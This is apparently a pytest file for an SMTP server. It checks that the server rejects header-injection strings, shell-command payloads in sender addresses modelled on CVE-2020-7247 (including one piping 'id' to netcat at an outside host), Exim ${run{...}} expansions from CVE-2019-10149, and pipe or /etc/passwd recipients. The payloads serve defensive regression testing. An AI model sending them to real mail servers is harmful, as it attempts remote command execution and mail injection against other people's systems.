"""What a client says must stay what it is: never a header, a command, a reply, or a list of who lives here."""

from __future__ import annotations

from pathlib import Path

import pytest

from mailcore import db
from mailcore.conf import conf
from mailcore.delivery import bounce, outcome
from mailcore.delivery.outcome import Stage
from mailcore.store import queue
from tests.smtp.world import ANN, MESSAGE, Village, body_of, running

pytestmark = [pytest.mark.django_db(transaction=True)]


async def test_header_injection_through_the_envelope(village: Village, tmp_path: Path) -> None:
    async with running(tmp_path) as world, world.client(hello=False) as client:
        await client.expect(b"EHLO evil\r(by mx.example.test)", "500 5.5.2")
        await client.expect("EHLO evil;(by<mx.example.test>", "250")
        await client.expect(b'MAIL FROM:<"a\rb"@elsewhere.example>', "500 5.5.2")
        await client.expect(b'MAIL FROM:<"a\nBcc: b"@elsewhere.example>', "500 5.5.2")
        assert (await client.hear()).startswith("500 5.5.2"), "what stood behind the bare LF is a line of its own"
        await client.expect(b"MAIL FROM:<a\0b@elsewhere.example>", "500 5.5.2")
        await client.expect('MAIL FROM:<"a b; x"@elsewhere.example>', "250")
        await client.expect('RCPT TO:<"ann"@example.org>', "250")
        await client.expect("DATA", "354")
        await client.expect(MESSAGE + b".", "250")
        (stored,) = await world.mail(village.ann)
        assert stored.startswith(b'Return-Path: <"a b; x"@elsewhere.example>\r\nReceived: from evil')
        assert b"\r\nReceived: from evil??by?mx.example.test? ([127.0.0.1])\r\n" in stored
        assert body_of(stored) == MESSAGE


async def test_header_injection_through_parameters(village: Village, tmp_path: Path) -> None:
    """Line ends as xtext: what would be decoded into a report never gets in."""
    hidden = ("x+0D+0ABcc:+20victim@elsewhere.example", "x+0A", "x+0D", "+00", "+1B[2J", "+7F")
    async with running(tmp_path) as world, world.client() as client:
        for text in hidden:
            await client.expect(f"MAIL FROM:<far@elsewhere.example> ENVID={text}", "501 5.5.4")
            await client.expect(f"MAIL FROM:<far@elsewhere.example> AUTH={text}", "501 5.5.4")
        await client.expect("MAIL FROM:<far@elsewhere.example> SMTPUTF8 ENVID=QQ+2B+3Dx AUTH=a+2Bb@example.org", "250")
        for text in hidden:
            await client.expect(f"RCPT TO:<ann@example.org> ORCPT=rfc822;{text}", "501 5.5.4")
        for text in ("\\x{0D}\\x{0A}Bcc:", "\\x{A}", "\\x{00000D}", "\\x{2028}", "\\x{85}"):
            await client.expect(f"RCPT TO:<ann@example.org> ORCPT=utf-8;{text}", "501 5.5.4")
        await client.expect("RCPT TO:<ann@example.org> ORCPT=utf-8;j\\x{F6}rg+2Bx@example.org", "250")
        await client.expect("RCPT TO:<bob@example.org> ORCPT=utf-8;jörg@example.org", "250")


async def test_a_report_holds_what_was_asked_for_on_one_line(village: Village, tmp_path: Path) -> None:
    """All that a client may say in ENVID and ORCPT, as it stands in the report that comes of it."""
    async with running(tmp_path) as world, world.client("submission") as client:
        await client.login()
        await client.expect(f"MAIL FROM:<{ANN}> ENVID=a+2Bb+20c+0", "501 5.5.4")
        await client.expect(f"MAIL FROM:<{ANN}> ENVID=a+2Bb+20c", "250")
        await client.expect("RCPT TO:<far@elsewhere.example> ORCPT=rfc822;F+2Bar@elsewhere.example", "250")
        await client.expect("DATA", "354")
        await client.expect(MESSAGE.replace(b"far@elsewhere.example", ANN.encode()) + b".", "250")
        async with db.transaction() as tx:
            (claim,) = await queue.claim(tx, limit=10)
            failed = outcome.failed(Stage.LOCAL, "5.1.1", "no such user\r\nBcc: victim@elsewhere.example").outcome
            await bounce.note(tx, [bounce.Notice(claim, "failed", failed)])
            assert await bounce.tell_noted(tx, conf, [claim.outbound_id]) == 1
        (report,) = await world.mail(village.ann)
        assert b"\r\nOriginal-Envelope-Id: a+b c\r\n" in report
        assert b"\r\nOriginal-Recipient: rfc822; F+ar@elsewhere.example\r\n" in report
        assert b"\r\nBcc:" not in report


COMMANDS_IN_ADDRESSES = (
    b"MAIL FROM:<;sleep 66;>",  # CVE-2020-7247, OpenSMTPD: a shell command for a local part
    b"MAIL FROM:<;for i in 0 1 2;do read r;done;sh;exit 0;>",
    b'MAIL FROM:<"; id|nc elsewhere.example 1;"@>',
    b"MAIL FROM:<`id`@>",
    b"MAIL FROM:<a@b\\x0Aexample.org>",
)


async def test_cve_2020_7247_a_shell_command_for_a_sender(village: Village, tmp_path: Path) -> None:
    async with running(tmp_path) as world, world.client() as client:
        for command in COMMANDS_IN_ADDRESSES:
            await client.expect(command, "501 5.1.7")
        assert (await client.deliver(MESSAGE)).startswith("250")


async def test_cve_2019_10149_an_expansion_for_a_recipient(village: Village, tmp_path: Path) -> None:
    """Exim ran what stood in ${run{…}}; here it is a name like any other, and nobody has it."""
    async with running(tmp_path) as world, world.client() as client:
        await client.expect("MAIL FROM:<far@elsewhere.example>", "250")
        for local in (
            "${run{\\x2fbin\\x2fsh}}",
            "root+${run{id}}",
            "$(id)",
            "`id`",
            "|id",
            "/etc/passwd",
            ":include:/x",
        ):
            heard = await client.ask(f"RCPT TO:<{local}@example.org>")
            assert heard[:3] in ("550", "501"), heard
        for local in ("|/bin/sh", "/etc/passwd", ":include:/etc/passwd"):
            await client.expect(f'RCPT TO:<"{local}"@example.org>', "550 5.1.1")
        await client.expect("RCPT TO:<ann@example.org>", "250")


async def test_vrfy_and_expn_tell_nobody_who_lives_here(village: Village, tmp_path: Path) -> None:
    async with running(tmp_path) as world, world.client() as client:
        answers = set()
        for name in ("ann", "nobody", "ann@example.org", "nobody@example.org", "sales@example.org", "victim@x.example"):
            answers.add(await client.ask(f"VRFY {name}"))
            await client.expect(f"EXPN {name}", "502 5.5.1 EXPN is not offered")
        assert answers == {"252 2.1.5 Send mail to find out"}
        await client.expect("VRFY", "501 5.5.4")
        assert (await client.deliver(MESSAGE)).startswith("250")


async def test_a_reply_repeats_nothing_that_could_break_out_of_it(village: Village, tmp_path: Path) -> None:
    """Senders read replies, and put them into reports: no line ends, no control characters, no end of its own."""
    async with running(tmp_path) as world, world.client("submission") as client:
        await client.login()
        heard = await client.ask(b'MAIL FROM:<"\\\x07evil 250 Ok"@example.org>')
        assert heard.startswith("5") and heard.isascii() and heard.isprintable()
        heard = await client.ask("MAIL FROM:<jörg\u202e@example.org> SMTPUTF8")
        assert heard.startswith("5") and heard.isascii() and heard.isprintable()
        heard = await client.ask("MAIL FROM:<jörg@example.org> SMTPUTF8")
        assert heard.startswith("550 5.7.1 You may not send as j?rg@example.org")
        await client.expect(f"MAIL FROM:<{ANN}>", "250")
